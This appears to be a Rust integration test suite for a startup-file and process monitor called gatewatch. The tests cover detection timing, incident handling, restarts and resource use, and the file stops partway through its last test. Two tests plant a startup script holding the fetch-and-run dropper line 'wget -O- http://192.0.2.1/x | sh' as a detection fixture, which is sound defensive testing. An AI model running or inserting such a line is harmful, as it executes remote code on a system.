//! `gatewatch monitor`: what it tells and when, what stops it and what does not, what it costs to let it run.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]
#![allow(clippy::arithmetic_side_effects, clippy::print_stderr)]

#[path = "common/monitor.rs"]
mod monitor;
#[path = "common/scan.rs"]
mod scan;

use std::ffi::OsStr;
use std::fs;
use std::io::{BufRead, BufReader, ErrorKind, Read, Write};
use std::os::fd::AsFd;
use std::os::unix::net::UnixDatagram;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::thread;
use std::time::{Duration, Instant};

use monitor::{BY_LINES, BY_PROGRAMS, Monitor, SELDOM};
use nix::fcntl::{FcntlArg, fcntl};
use nix::poll::{PollFd, PollFlags, PollTimeout, poll};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use scan::{GATEWATCH, Guard, Planted, Tree, need_root, run, wait_for};

/// A line that a healthy startup file does not have.
const ODD: &str = "#!/bin/sh\n/tmp/x &\n";

fn temporary() -> tempfile::TempDir {
    tempfile::tempdir().unwrap()
}

fn none() -> Vec<String> {
    Vec::new()
}

#[test]
fn a_startup_file_is_told_at_once_and_only_once() {
    let (tree, state) = (Tree::healthy().dir("etc/init.d/sub").dir("jffs"), temporary());
    let monitor = Monitor::of(&tree, state.path(), &SELDOM);
    assert_eq!(monitor.look(), (none(), "clean".into()));
    let begun = Instant::now();
    let init = tree.path().join("etc/init.d");
    fs::write(init.join("S99x"), ODD).unwrap();
    assert_eq!(monitor.look(), (vec!["new S99x".into()], "suspicious".into()));
    assert!(begun.elapsed() < Duration::from_secs(3), "{:?}", begun.elapsed());
    // What is known is no news, and what concerns no startup file causes no look. Of two more there is one look or two.
    fs::write(init.join("S99x"), ODD).unwrap();
    fs::write(tree.path().join("etc/resolv.conf"), "").unwrap();
    fs::create_dir(tree.path().join("jffs/scripts")).unwrap();
    fs::write(tree.path().join("jffs/scripts/later"), ODD).unwrap();
    monitor.wait_for("new", "/jffs/scripts/later");
    assert_eq!(monitor.look().0, none());
    fs::rename(init.join("S99x"), init.join("sub/S98y")).unwrap();
    monitor.wait_for("new", "/etc/init.d/sub/S98y");
    assert_eq!(monitor.look().1, "suspicious");
    // Only a full look, which has seen all, says that something is gone; and SIGHUP makes it look at once.
    fs::remove_file(init.join("sub/S98y")).unwrap();
    let (mut said, verdict) = monitor.full();
    said.sort();
    assert_eq!((said, verdict.as_str()), (vec!["gone S98y".into(), "gone S99x".into()], "suspicious"));
    fs::remove_dir_all(tree.path().join("jffs/scripts")).unwrap();
    assert_eq!(monitor.full(), (vec!["gone later".into()], "clean".into()));
    assert_eq!(monitor.full(), (none(), "clean".into()), "the heartbeat");
    assert_eq!(monitor.end(Signal::SIGTERM), "");
}

#[test]
fn an_intruder_is_one_incident_until_he_is_back() {
    let (tree, state) = (Tree::healthy().dir("etc/init.d"), temporary());
    let monitor = Monitor::of(&tree, state.path(), &[&SELDOM[..], &["--only", "startup-dropper"]].concat());
    assert_eq!(monitor.look(), (none(), "clean".into()));
    let file = tree.path().join("etc/init.d/S99x");
    let dropper = "wget -O- http://192.0.2.1/x | sh\n";
    let told = (vec!["new S99x".into(), "incident infected".into()], "infected".into());
    fs::write(&file, dropper).unwrap();
    assert_eq!(monitor.look(), told);
    assert_eq!(monitor.full(), (none(), "infected".into()), "it is known");
    // Other news are none of his.
    let other = tree.path().join("etc/init.d/S98y");
    fs::write(&other, ODD).unwrap();
    assert_eq!(monitor.look(), (vec!["new S98y".into()], "infected".into()));
    fs::remove_file(other).unwrap();
    fs::remove_file(&file).unwrap();
    let (mut said, verdict) = monitor.full();
    said.sort();
    assert_eq!((said, verdict.as_str()), (vec!["gone S98y".into(), "gone S99x".into()], "clean"));
    fs::write(&file, dropper).unwrap();
    let (said, verdict) = monitor.look();
    assert_eq!((said, verdict.as_str()), (vec!["again S99x".into(), "incident infected".into()], "infected"));
    assert_eq!(monitor.end(Signal::SIGTERM), "");
}

#[test]
fn what_was_told_piece_by_piece_is_an_incident_once_all_of_it_is_seen() {
    need_root();
    let (state, init) = (temporary(), temporary());
    let planted = Planted::new("/tmp/gatewatch-monitor-pieces", "bot");
    planted.copy("/bin/sleep");
    let script = r#"mount -t proc none /proc; mount --bind "$init" /etc/init.d
        begin() { "$@" & monitor=$!; }
        begin "$@"; while read -r line; do eval "$line"; done"#;
    let mut command = Command::new("unshare");
    command.args(["-m", "-p", "-f", "--kill-child", "sh", "-c", script, "sh", GATEWATCH]);
    command.args(["monitor", "--format", "json", "--no-config", "--only", "exe-volatile,startup-volatile"]);
    command.args(SELDOM).arg("--state").arg(state.path()).env("init", init.path());
    let mut monitor = Monitor::start(&mut command);
    let mut shell = monitor.process.0.stdin.take().unwrap();
    assert_eq!(monitor.look(), (none(), "clean".into()));
    fs::write(init.path().join("S99x"), format!("#!/bin/sh\n{} &\n", planted.path())).unwrap();
    assert_eq!(monitor.look(), (vec!["new S99x".into()], "suspicious".into()));
    writeln!(shell, "{} 600 &", planted.path()).unwrap();
    assert_eq!(monitor.look(), (vec!["new bot".into()], "suspicious".into()));
    // Only a look at everything sees that they belong together. That is told too, once.
    writeln!(shell, "kill -HUP $monitor").unwrap();
    assert_eq!(monitor.look(), (vec!["incident suspicious".into()], "suspicious".into()));
    writeln!(shell, "kill -HUP $monitor").unwrap();
    assert_eq!(monitor.look(), (none(), "suspicious".into()));
    // One that is started anew knows what was told before.
    writeln!(shell, r#"kill -TERM $monitor; wait $monitor; begin "$@""#).unwrap();
    assert_eq!(monitor.look(), (none(), "suspicious".into()));
    writeln!(shell, "kill -HUP $monitor").unwrap();
    assert_eq!(monitor.look(), (none(), "suspicious".into()));
}

#[test]
fn a_planted_process_is_told_within_two_seconds_where_the_kernel_tells_of_it() {
    need_root();
    let state = temporary();
    let monitor = Monitor::live(state.path(), &SELDOM);
    monitor.look();
    if !monitor.has_connector() {
        eprintln!("this kernel has no process events: the list of processes is tested instead, beside this");
        return;
    }
    // A machine that is busy with other things may be slow, and the monitor gives way to them: then it must have begun to look.
    let mut took = Vec::new();
    for name in ["bot", "bot2", "bot3"] {
        let planted = Planted::new(&format!("/tmp/gatewatch-monitor-{name}"), name);
        let begun = Instant::now();
        let _running = planted.start();
        monitor.wait_for("new", planted.path());
        let told = begun.elapsed();
        let look = loop {
            let row = monitor.told.recv_timeout(Duration::from_secs(25)).unwrap();
            if row["type"] == "summary" {
                break Duration::from_micros(row["elapsed_us"].as_u64().unwrap());
            }
        };
        took.push((told, look));
        if told < Duration::from_secs(2) {
            break;
        }
    }
    let in_time = |(told, look): &(Duration, Duration)| {
        *told < Duration::from_secs(2) || told.saturating_sub(*look) < Duration::from_secs(1)
    };
    assert!(took.iter().any(in_time), "{took:?}");
    assert_eq!(monitor.end(Signal::SIGINT), "");
}

#[test]
fn a_planted_process_is_told_where_nobody_tells_of_it_and_again_when_it_is_gone() {
    need_root();
    let state = temporary();
    let planted = Planted::new("/tmp/gatewatch-monitor-listed", "bot");
    planted.copy("/bin/sleep");
    // A container: the kernel tells nothing into it. What the test writes is run there.
    let script = r#"mount -t proc none /proc; "$@" & monitor=$!; while read -r line; do eval "$line"; done"#;
    let mut command = Command::new("unshare");
    command.args(["-m", "-p", "-f", "--kill-child", "sh", "-c", script, "sh", GATEWATCH]);
    command
        .args(["monitor", "--format", "json"])
        .args(BY_PROGRAMS)
        .args(SELDOM)
        .arg("--state")
        .arg(state.path());
    let mut monitor = Monitor::start(&mut command);
    let mut shell = monitor.process.0.stdin.take().unwrap();
    assert_eq!(monitor.look().0, none());
    let begun = Instant::now();
    writeln!(shell, "{} 600 & bot=$!", planted.path()).unwrap();
    monitor.wait_for("new", planted.path());
    // Five seconds between two looks at the list, and one for the look.
    assert!(begun.elapsed() < Duration::from_secs(9), "{:?}", begun.elapsed());
    assert_eq!(monitor.look().1, "suspicious");
    writeln!(shell, "kill -9 $bot; wait $bot; kill -HUP $monitor").unwrap();
    assert_eq!(monitor.look(), (vec!["gone bot".into()], "clean".into()));
    writeln!(shell, "kill -TERM $monitor; wait $monitor; exit $?").unwrap();
    let status = wait_for("its end", || monitor.process.0.try_wait().unwrap());
    assert_eq!(status.code(), Some(0));
}

/// A monitor for which time passes so much faster: a look that takes a moment takes minutes.
fn hasty(factor: u32, command: &mut Command) -> Monitor {
    let place = Path::new(env!("CARGO_TARGET_TMPDIR"));
    let source = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/common/haste.c");
    let library = place.join("haste.so");
    static MADE: OnceLock<()> = OnceLock::new();
    MADE.get_or_init(|| {
        let made = run(Command::new("gcc").args(["-shared", "-fPIC", "-O1", source, "-o"]).arg(&library));
        assert_eq!((made.status, made.stderr.as_str()), (0, ""));
    });
    command.env("LD_PRELOAD", &library).env("HASTE", factor.to_string());
    Monitor::start(command.args(["--timeout", "86400"]))
}

#[test]
fn an_hour_with_a_thousand_events_leaves_nothing_behind() {
    need_root();
    const HASTE: u32 = 240;
    let (tree, states) = (Tree::healthy().dir("etc/init.d"), [temporary(), temporary()]);
    let started = |state: &Path, of: &[&OsStr]| {
        let mut command = Command::new(GATEWATCH);
        command.args(["monitor", "--format", "json", "--interval", "60"]).args(of).arg("--state").arg(state);
        hasty(HASTE, &mut command)
    };
    let lines = ["--only", "startup-volatile", "--root"].map(OsStr::new);
    let by_files = started(states[0].path(), &[&lines[..], &[tree.path().as_os_str()]].concat());
    let by_processes = started(states[1].path(), &BY_PROGRAMS.map(OsStr::new));
    let begun = Instant::now();
    let (mut events, mut before) = (0, None);
    let heartbeats =
        |monitor: &Monitor| monitor.told.try_iter().filter(|row| row["type"] == "summary").count();
    let (mut beats, hour) = ([0, 0], Duration::from_secs(3600) / HASTE);
    while begun.elapsed() < hour || events < 1000 || beats.iter().any(|beats| *beats < 20) {
        assert!(begun.elapsed() < 8 * hour, "{events} events, {beats:?} looks");
        for _ in 0..10 {
            let file = tree.path().join(format!("etc/init.d/S{}", events % 40));
            fs::write(file, if events % 50 == 7 { ODD } else { "exit 0\n" }).unwrap();
            assert!(Command::new("true").status().unwrap().success());
            events += 1;
        }
        for (beats, monitor) in beats.iter_mut().zip([&by_files, &by_processes]) {
            *beats += heartbeats(monitor);
        }
        // A tenth of the time has passed.
        if before.is_none() && begun.elapsed() > hour / 10 && beats.iter().all(|beats| *beats > 1) {
            before = Some([by_files.size(), by_processes.size()]);
        }
        thread::sleep(Duration::from_millis(20));
    }
    let after = [by_files.size(), by_processes.size()];
    for ((memory, descriptors), (memory_before, descriptors_before)) in after.into_iter().zip(before.unwrap())
    {
        assert_eq!(descriptors, descriptors_before);
        assert!(memory <= memory_before + 16, "{memory_before} KiB before, {memory} KiB after");
        assert!(memory <= 1024, "{memory} KiB");
    }
    assert_eq!(by_files.end(Signal::SIGTERM) + &by_processes.end(Signal::SIGTERM), "");
}

#[test]
fn what_is_still_there_after_a_day_is_told_again() {
    let (tree, state) = (Tree::healthy().file("etc/init.d/S99x", ODD), temporary());
    let mut command = Command::new(GATEWATCH);
    command.args(["monitor", "--format", "json", "--root"]).arg(tree.path()).args(BY_LINES).args(SELDOM);
    // An hour is a fifth of a second.
    let monitor = hasty(18_000, command.arg("--state").arg(state.path()));
    assert_eq!(monitor.look().0, ["new S99x"]);
    let quiet = std::iter::from_fn(|| Some(monitor.look().0)).take_while(Vec::is_empty).count();
    let again = monitor.full().0;
    // The look at which it is told again has been taken. A machine that is busy leaves some out.
    assert!((5..=26).contains(&quiet), "{quiet} looks");
    assert_eq!(again, none());
    assert_eq!(monitor.end(Signal::SIGTERM), "");
}

#[test]
fn one_that_is_started_again_goes_on_and_a_second_one_does_not_start() {
    let (tree, state) = (Tree::healthy().file("etc/init.d/S99x", ODD), temporary());
    let monitor = Monitor::of(&tree, state.path(), &SELDOM);
    assert_eq!(monitor.look(), (vec!["new S99x".into()], "suspicious".into()));
    let mut second = Command::new(GATEWATCH);
    let second = run(second.arg("monitor").arg("--root").arg(tree.path()).arg("--state").arg(state.path()));
    let expected = format!(
        "gatewatch: process {} is a monitor that has {} already: end it first, or give another --state\n",
        monitor.pid(),
        state.path().display()
    );
    assert_eq!((second.status, second.stdout.len(), second.stderr), (3, 0, expected));
    let pid = fs::read_to_string(state.path().join("monitor.pid")).unwrap();
    assert_eq!(pid, format!("{}\n", monitor.pid()));
    assert_eq!(monitor.end(Signal::SIGTERM), "");

    let monitor = Monitor::of(&tree, state.path(), &SELDOM);
    assert_eq!(monitor.look(), (none(), "suspicious".into()), "it was told before");
    fs::remove_file(tree.path().join("etc/init.d/S99x")).unwrap();
    assert_eq!(monitor.full(), (vec!["gone S99x".into()], "clean".into()));
    // Nobody asks first.
    monitor.signal(Signal::SIGKILL);
    drop(monitor);

    fs::write(state.path().join("monitor.state"), "nonsense").unwrap();
    fs::write(tree.path().join("etc/init.d/S99x"), ODD).unwrap();
    let monitor = Monitor::of(&tree, state.path(), &SELDOM);
    assert_eq!(monitor.look().0, ["new S99x"]);
    let said = monitor.end(Signal::SIGTERM);
    assert!(said.contains("monitor.state: not whole") && said.lines().count() == 1, "{said}");
}

/// A monitor in a mount namespace of its own, after a command with the directory of its state as `$1`.
fn on(setup: &str, tree: &Tree, state: &Path) -> Monitor {
    need_root();
    let script = format!("{setup}; shift; exec \"$@\"");
    let mut command = Command::new("unshare");
    command.args(["-m", "sh", "-c", &script, "sh"]).arg(state).arg(GATEWATCH);
    command.args(["monitor", "--format", "json", "--root"]).arg(tree.path());
    Monitor::start(command.args(BY_LINES).args(["--interval", "1"]).arg("--state").arg(state))
}

#[test]
fn a_disk_that_takes_nothing_stops_nothing() {
    for (setup, why) in [
        ("mount -t tmpfs -o ro none $1", "going on without: a second monitor"),
        // Room for the lock and no more.
        (
            "mount -t tmpfs -o size=4k none $1; printf x >$1/monitor.pid",
            "after a new start all is told again",
        ),
    ] {
        let (tree, state) = (Tree::healthy().file("etc/init.d/S99x", ODD), temporary());
        let monitor = on(setup, &tree, state.path());
        assert_eq!(monitor.look(), (vec!["new S99x".into()], "suspicious".into()));
        fs::remove_file(tree.path().join("etc/init.d/S99x")).unwrap();
        let (said, verdict) = loop {
            let look = monitor.look();
            if !look.0.is_empty() {
                break look;
            }
        };
        assert_eq!((said, verdict.as_str()), (vec!["gone S99x".into()], "clean"));
        let said = monitor.end(Signal::SIGTERM);
        assert!(said.contains(why), "{said}");
        assert!(said.lines().count() <= 2, "said once: {said}");
    }
}

/// What comes next. A signal in between is no answer.
fn heard(socket: &UnixDatagram) -> String {
    let mut bytes = [0; 1024];
    let length = loop {
        match socket.recv(&mut bytes) {
            Err(error) if error.kind() == ErrorKind::Interrupted => {}
            done => break done.unwrap(),
        }
    };
    String::from_utf8(bytes[..length].to_vec()).unwrap()
}

/// A file system that nobody serves is mounted in the tree, so that the look waits for ever.
fn stuck(tree: &Tree, state: &Path, timeout: &str) -> Monitor {
    Monitor::start(&mut sticking(tree, state, timeout))
}

fn sticking(tree: &Tree, state: &Path, timeout: &str) -> Command {
    need_root();
    let script = r#"exec 3<>/dev/fuse
        mount -i -t fuse -o fd=3,rootmode=40000,user_id=0,group_id=0 none "$1/etc/rc.d" && exec "$0" monitor \
            --format json --no-events --interval 1 --only exe-volatile,startup-volatile --root "$1" --state "$2" --timeout "$3""#;
    let mut command = Command::new("unshare");
    command.args(["-m", "sh", "-c", script, GATEWATCH]).arg(tree.path()).arg(state).arg(timeout);
    command
}

/// The process that looks.
fn child_of(monitor: &Monitor) -> Pid {
    let pid = monitor.pid();
    wait_for("a look", || {
        let children = fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap();
        children.trim().parse().map(Pid::from_raw).ok()
    })
}

#[test]
fn who_kills_the_look_does_not_end_the_monitor_and_who_ends_the_monitor_waits_for_no_look() {
    let (tree, state) = (Tree::healthy().dir("etc/rc.d").process(12, b"x", b"/tmp/x", b"x\0"), temporary());
    let monitor = stuck(&tree, state.path(), "60");
    monitor.wait_for("new", "/tmp/x");
    let child = child_of(&monitor);
    kill(child, Signal::SIGKILL).unwrap();
    assert_eq!(monitor.look(), (none(), "suspicious".into()));
    // The next one is under way, and is stuck too.
    let next = wait_for("another look", || Some(child_of(&monitor)).filter(|next| *next != child));
    let begun = Instant::now();
    let said = monitor.end(Signal::SIGTERM);
    assert!(begun.elapsed() < Duration::from_secs(3), "{:?}", begun.elapsed());
    assert_eq!(said, "");
    wait_for("the end of the look", || (!PathBuf::from(format!("/proc/{next}")).exists()).then_some(()));
}

#[test]
fn a_look_that_is_stuck_keeps_its_time_whatever_is_asked_meanwhile() {
    let (tree, state) = (Tree::healthy().dir("etc/rc.d").process(12, b"x", b"/tmp/x", b"x\0"), temporary());
    let monitor = stuck(&tree, state.path(), "2");
    monitor.wait_for("new", "/tmp/x");
    let child = child_of(&monitor);
    monitor.signal(Signal::SIGHUP);
    assert_eq!(monitor.look().1, "suspicious", "its time has run out");
    // To be read anew, it looks again.
    wait_for("another look", || Some(child_of(&monitor)).filter(|next| *next != child));
    monitor.end(Signal::SIGTERM);
}

#[test]
fn who_does_not_read_keeps_nobody_from_ending_it() {
    let (tree, state) = (Tree::healthy(), temporary());
    let mut command = Command::new(GATEWATCH);
    command.args(["monitor", "-v", "--format", "json", "--interval", "3600", "--root"]).arg(tree.path());
    let mut child = Guard(command.arg("--state").arg(state.path()).stdout(Stdio::piped()).spawn().unwrap());
    let output = child.0.stdout.take().unwrap();
    fcntl(&output, FcntlArg::F_SETPIPE_SZ(4096)).unwrap();
    let pid = Pid::from_raw(child.0.id().try_into().unwrap());
    // All checks do not fit into one page.
    wait_for("something in the pipe", || {
        let mut fds = [PollFd::new(output.as_fd(), PollFlags::POLLIN)];
        (poll(&mut fds, PollTimeout::ZERO).unwrap() > 0).then_some(())
    });
    // Nothing tells that it is full; the look is over in a moment.
    thread::sleep(Duration::from_millis(500));
    let begun = Instant::now();
    kill(pid, Signal::SIGTERM).unwrap();
    let status = wait_for("its end", || child.0.try_wait().unwrap());
    assert_eq!(status.code(), Some(0));
    assert!(begun.elapsed() < Duration::from_secs(4), "{:?}", begun.elapsed());
}

#[test]
fn complaints_that_nobody_reads_stop_nothing() {
    let (tree, state) = (Tree::healthy().file("etc/init.d/S99x", ODD), temporary());
    // A pipe that is full.
    let (unread, full) = nix::unistd::pipe().unwrap();
    fcntl(&full, FcntlArg::F_SETPIPE_SZ(4096)).unwrap();
    assert_eq!(nix::unistd::write(&full, &[b'x'; 4096]), Ok(4096));
    let mut command = Command::new(GATEWATCH);
    command.args(["monitor", "-q", "--root"]).arg(tree.path()).arg("--state").arg(state.path());
    // Who looks has something to complain of, and whoever reports has too.
    command.args(BY_LINES).args(SELDOM).args(["--intel", "/nowhere/x.gwi", "--syslog=/nowhere/log"]);
    let mut process = Guard(command.stdout(Stdio::piped()).stderr(full).spawn().unwrap());
    let begun = Instant::now();
    let mut text = BufReader::new(process.0.stdout.take().unwrap()).lines();
    let line = text.next().unwrap().unwrap();
    assert!(line.starts_with("suspicious startup-volatile"), "{line}");
    assert!(begun.elapsed() < Duration::from_secs(8), "{:?}", begun.elapsed());
    let begun = Instant::now();
    kill(Pid::from_raw(process.0.id().try_into().unwrap()), Signal::SIGTERM).unwrap();
    assert_eq!(wait_for("its end", || process.0.try_wait().unwrap()).code(), Some(0));
    assert!(begun.elapsed() < Duration::from_secs(6), "{:?}", begun.elapsed());
    drop(unread);
}

/// A file system in the tree that is served by this test until it stops doing so: what it has been asked for cannot be ended
/// before that, not even by SIGKILL.
struct Served(fs::File);

impl Served {
    /// Takes the next question: what it is, and its number.
    fn question(&mut self) -> (u32, u64) {
        let mut question = [0; 1 << 17];
        // `struct fuse_in_header`: length, operation, number (linux/fuse.h).
        // Before it is mounted nothing can be read.
        let length = wait_for("a question", || self.0.read(&mut question).ok());
        assert!(length >= 40);
        let operation = u32::from_ne_bytes(question[4..8].try_into().unwrap());
        (operation, u64::from_ne_bytes(question[8..16].try_into().unwrap()))
    }

    /// Agrees on how to talk, which is the first question.
    fn agree(&mut self) {
        const INIT: u32 = 26;
        let (operation, number) = self.question();
        assert_eq!(operation, INIT);
        // `struct fuse_out_header` and `struct fuse_init_out` of version 7.31; all else is zero.
        let mut answer = [0; 80];
        answer[..4].copy_from_slice(&80_u32.to_ne_bytes());
        answer[8..16].copy_from_slice(&number.to_ne_bytes());
        answer[16..20].copy_from_slice(&7_u32.to_ne_bytes());
        answer[20..24].copy_from_slice(&31_u32.to_ne_bytes());
        answer[36..40].copy_from_slice(&4096_u32.to_ne_bytes());
        assert_eq!(self.0.write(&answer).unwrap(), 80);
    }
}

#[test]
fn a_look_that_nothing_could_end_is_let_go_of_once_it_ends() {
    need_root();
    let (tree, state) = (Tree::healthy().dir("etc/rc.d"), temporary());
    let device = fs::File::options().read(true).write(true).open("/dev/fuse").unwrap();
    let script = r#"mount -i -t fuse -o fd=0,rootmode=40000,user_id=0,group_id=0 none "$1/etc/rc.d" &&
        exec "$0" monitor --format json --no-events --interval 1 --only startup-volatile --root "$1" --state "$2" --timeout 1 </dev/null"#;
    let mut command = Command::new("unshare");
    command.args(["-m", "sh", "-c", script, GATEWATCH]).arg(tree.path()).arg(state.path());
    let monitor = Monitor::start_with(&mut command, device.try_clone().unwrap());
    drop(command);
    let mut served = Served(device);
    served.agree();
    // The next question is that of a look.
    served.question();
    let child = child_of(&monitor);
    assert_eq!(monitor.look().1, "incomplete");
    let is_there = || PathBuf::from(format!("/proc/{child}")).exists();
    assert!(is_there(), "it cannot be ended");
    drop(served);
    wait_for("its end", || (!is_there()).then_some(()));
    assert_eq!(monitor.end(Signal::SIGTERM), "");
}

#[test]
fn a_startup_place_that_does_not_answer_is_not_watched_and_stops_nothing() {
    need_root();
    let state = temporary();
    let script = r#"exec 3<>/dev/fuse
        mount -i -t fuse -o fd=3,rootmode=40000,user_id=0,group_id=0 none /etc/profile.d && exec "$0" monitor \
            --format json --interval 3600 --only startup-volatile --state "$1" --timeout 1"#;
    let mut command = Command::new("unshare");
    command.args(["-m", "sh", "-c", script, GATEWATCH]).arg(state.path());
    let monitor = Monitor::start(&mut command);
    assert_eq!(monitor.look().1, "incomplete");
    let said = monitor.end(Signal::SIGTERM);
    assert!(said.contains("are not watched; each full look sees them"), "{said}");
}

#[test]
fn a_file_is_what_there_is_and_not_what_is_news() {
    let (tree, state) =
        (Tree::healthy().file("etc/init.d/S99x", "wget -O- http://192.0.2.1/x | sh\n"), temporary());
    let file = state.path().join("report");
    let output = format!("--output={}", file.display());
    for format in ["--format=prom", "--format=json", "--format=nagios"] {
        let options = [format, &output, "--only", "startup-dropper", "--interval", "3600"];
        let log = state.path().join(format!("log{format}"));
        let socket = UnixDatagram::bind(&log).unwrap();
        socket.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        let last = || loop {
            if heard(&socket).contains(" verdict=") {
                return fs::read_to_string(&file).unwrap();
            }
        };
        let own = temporary();
        let monitor = Monitor::of(
            &tree,
            own.path(),
            &[&options[..], &[&format!("--syslog={}", log.display())]].concat(),
        );
        // The log is told behind the file, where both are.
        let first = last();
        let says = |text: &str| {
            let parts = match format {
                "--format=prom" => {
                    ["gatewatch_incidents{severity=\"infected\"} 1\n", "check=\"startup-volatile\""]
                }
                "--format=json" => ["\"type\":\"incident\"", "\"check\":\"startup-dropper\""],
                _ => ["infected incident 1: ", "infected startup-dropper "],
            };
            parts.iter().all(|part| text.contains(part))
        };
        assert!(says(&first), "{first}");
        // A look at a part, which finds something, leaves it alone.
        fs::write(tree.path().join("etc/init.d/S98y"), ODD).unwrap();
        assert_eq!(last(), first);
        monitor.signal(Signal::SIGHUP);
        let later = last();
        assert!(says(&later) && later != first, "{later}");
        fs::remove_file(tree.path().join("etc/init.d/S98y")).unwrap();
        monitor.end(Signal::SIGTERM);
    }
}

#[test]
fn what_is_read_anew_counts() {
    let (tree, state) = (Tree::healthy().file("etc/init.d/S99x", ODD), temporary());
    let config = state.path().join("gatewatch.conf");
    fs::write(&config, "interval = 3600\n").unwrap();
    let monitor = Monitor::of(&tree, state.path(), &["--config", config.to_str().unwrap()]);
    assert_eq!(monitor.look(), (vec!["new S99x".into()], "suspicious".into()));
    // What is allowed from now on is neither news nor gone.
    fs::write(&config, "interval = 1\nallow = startup-volatile /etc/init.d/S99x never mine\n").unwrap();
    assert_eq!(monitor.full(), (none(), "clean".into()));
    assert_eq!(monitor.look(), (none(), "clean".into()), "by itself, a second later");
    fs::write(&config, "intervall = 1\n").unwrap();
    assert_eq!(monitor.full(), (none(), "clean".into()));
    let said = monitor.end(Signal::SIGTERM);
    assert!(said.contains("gatewatch.conf:1: unknown key \"intervall\": interval is one"), "{said}");
}

#[test]
fn what_the_log_could_not_take_comes_later() {
    let (tree, state) = (Tree::healthy().file("etc/init.d/S99x", ODD), temporary());
    let log = state.path().join("log");
    let option = format!("--syslog={}", log.display());
    let monitor = Monitor::of(&tree, state.path(), &["--interval", "3600", &option]);
    assert_eq!(monitor.look().0, ["new S99x"]);
    let socket = UnixDatagram::bind(&log).unwrap();
    socket.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let receive = || heard(&socket);
    let (finding, heartbeat) = (receive(), receive());
    assert!(finding.contains(" n=1/2 check=startup-volatile sev=suspicious "), "{finding}");
    assert!(finding.contains(" state=new obj=\"/etc/init.d/S99x"), "{finding}");
    assert!(heartbeat.contains(" n=2/2 verdict=suspicious "), "{heartbeat}");
    fs::remove_file(tree.path().join("etc/init.d/S99x")).unwrap();
    assert_eq!(monitor.full(), (vec!["gone S99x".into()], "clean".into()));
    let gone = receive();
    assert!(gone.starts_with("<29>") && gone.contains(" state=gone seen="), "{gone}");
    assert!(receive().contains(" verdict=clean "));
    assert_eq!(monitor.end(Signal::SIGTERM), "");
}

#[test]
fn people_read_what_has_become_of_it_also_after_whoever_started_it_has_left() {
    let (tree, state) = (Tree::healthy().file("etc/init.d/S99x", ODD), temporary());
    let log = state.path().join("log");
    let socket = UnixDatagram::bind(&log).unwrap();
    socket.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let receive = || heard(&socket);
    let mut command = Command::new(GATEWATCH);
    command.args(["monitor", "-q", "--root"]).arg(tree.path()).arg("--state").arg(state.path());
    command.args(BY_LINES).args(SELDOM).arg(format!("--syslog={}", log.display()));
    let mut process = scan::start(&mut command);
    let pid = Pid::from_raw(process.0.id().try_into().unwrap());
    let mut text = BufReader::new(process.0.stdout.take().unwrap()).lines();
    let mut line = || text.next().unwrap().unwrap();
    assert_eq!(line(), "suspicious startup-volatile (T1037.004) /etc/init.d/S99x:2 state=new");
    line();
    assert!(receive().contains("n=1/2") && receive().contains("n=2/2"));
    fs::rename(tree.path().join("etc/init.d/S99x"), tree.path().join("etc/init.d/S98x")).unwrap();
    assert_eq!(line(), "suspicious startup-volatile (T1037.004) /etc/init.d/S98x:2 state=new");
    line();
    assert!(receive().contains("n=1/2") && receive().contains("n=2/2"));
    kill(pid, Signal::SIGHUP).unwrap();
    assert_eq!(line(), "suspicious startup-volatile (T1037.004) /etc/init.d/S99x:2 state=gone");
    assert_eq!(line(), "    it is there no more");
    let seen = line();
    assert!(seen.starts_with("    first seen 20") && seen.contains(" UTC, last seen 20"), "{seen}");
    assert!(receive().contains("state=gone") && receive().contains("n=2/2"));
    // Nobody reads standard output any more; the log does, and is told once.
    drop(text);
    fs::remove_file(tree.path().join("etc/init.d/S98x")).unwrap();
    kill(pid, Signal::SIGHUP).unwrap();
    assert!(receive().contains("S98x") && receive().contains("n=2/2"));
    kill(pid, Signal::SIGHUP).unwrap();
    let heartbeat = receive();
    assert!(heartbeat.contains(" n=1/1 verdict=clean "), "{heartbeat}");
    kill(pid, Signal::SIGTERM).unwrap();
    assert_eq!(wait_for("its end", || process.0.try_wait().unwrap()).code(), Some(0));
}

#[test]
fn systemd_is_told_that_it_is_ready_and_lives() {
    let (tree, state) = (Tree::healthy(), temporary());
    let path = state.path().join("notify");
    let socket = UnixDatagram::bind(&path).unwrap();
    socket.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let mut command = Command::new(GATEWATCH);
    command.args(["monitor", "--format", "json", "--root"]).arg(tree.path()).arg("--state").arg(state.path());
    command.env("NOTIFY_SOCKET", &path).env("WATCHDOG_USEC", "1000000").args(BY_LINES).args(SELDOM);
    let monitor = Monitor::start(&mut command);
    let receive = || heard(&socket);
    assert_eq!([receive(), receive(), receive()], ["READY=1", "WATCHDOG=1", "WATCHDOG=1"]);
    assert_eq!(monitor.end(Signal::SIGTERM), "");
    let last = std::iter::from_fn(|| Some(receive())).find(|word| word != "WATCHDOG=1");
    assert_eq!(last.as_deref(), Some("STOPPING=1"));
}

#[test]
fn systemd_is_told_that_it_lives_while_a_look_takes_long() {
    let (tree, state) = (Tree::healthy().dir("etc/rc.d"), temporary());
    let path = state.path().join("notify");
    let socket = UnixDatagram::bind(&path).unwrap();
    socket.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut command = sticking(&tree, state.path(), "60");
    let monitor = Monitor::start(command.env("NOTIFY_SOCKET", &path).env("WATCHDOG_USEC", "1000000"));
    let mut said = Vec::new();
    for _ in 0..6 {
        said.push(heard(&socket));
    }
    assert_eq!(said[1..], ["WATCHDOG=1"; 5]);
    assert!(monitor.told.try_recv().is_err(), "the look is still under way");
    monitor.end(Signal::SIGTERM);
}

#[test]
fn the_script_for_openwrt_is_one() {
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/packaging/openwrt/gatewatch.init");
    let ran = run(Command::new("shellcheck").args(["-s", "dash", script]));
    assert_eq!((ran.status, String::from_utf8(ran.stdout).unwrap().as_str()), (0, ""));
    let ran = run(Command::new("busybox").args(["ash", "-n", script]));
